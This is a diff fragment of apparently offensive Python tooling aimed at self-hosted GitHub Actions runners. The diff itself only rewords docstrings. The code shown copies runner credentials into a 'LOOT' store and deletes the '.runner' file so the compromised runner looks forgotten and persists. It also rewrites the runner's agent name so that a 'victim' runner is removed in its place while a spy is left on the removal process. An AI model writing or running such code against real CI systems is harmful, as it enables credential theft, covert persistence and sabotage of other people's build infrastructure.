@@ -231,7 +231,7 @@ def lurk() -> None:
 
 
 def feign() -> None:
-    """Make it look as if GitHub had forgotten our runner: then nobody will have it removed, and we have its keys."""
+    """Make it look as if GitHub had forgotten our runner: then no process removes it, and the intruder has its keys."""
     copy_credentials("feigned")
     (runner_directory() / ".runner").unlink()
     (LOOT / "runner").write_text(str(runner_directory()), encoding="utf-8")
@@ -253,7 +253,7 @@ def strike() -> None:
 
 
 def tamper() -> None:
-    """Have somebody else removed in our place, and leave a spy on whoever does it."""
+    """Have another runner removed instead of this one, and leave a spy on the process that does it."""
     copy_credentials("tampered")
     path = runner_directory() / ".runner"
     path.write_text(json.dumps(json.loads(path.read_text()) | {"agentName": PLAN["victim"]}), encoding="utf-8")
